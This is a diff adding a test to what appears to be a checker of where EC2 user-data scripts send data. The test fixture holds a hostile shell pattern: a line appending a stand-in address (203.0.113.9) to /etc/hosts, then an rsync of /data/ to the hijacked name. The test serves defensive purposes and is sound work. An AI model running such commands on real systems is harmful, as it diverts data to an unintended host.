@@ -331,6 +331,17 @@ describe("an upload to the address of a resource of the program, not known at pr
     }
   });
 
+  // Found by the red team: a script that rewrites the hosts file may send the name anywhere.
+  test("fails closed where the script rewrites the machine's hosts file", async () => {
+    const userData = script(
+      `echo "203.0.113.9 ${primaryAddress(1, "privateDns")}" >> /etc/hosts`,
+      `rsync -a /data/ ec2-user@${primaryAddress(2, "privateDns")}:/replica/`,
+    );
+    expect(await sends(instance({ userData })(primary()(oregon)), "arn-locality")).toEqual([
+      "mandatory: userData (unknown at preview)",
+    ]);
+  });
+
   test("a mark naming no address output, or no resource of the stack, is not placed", async () => {
     const notAnAddress = markText(1, {
       type: "aws:ec2/instance:Instance",
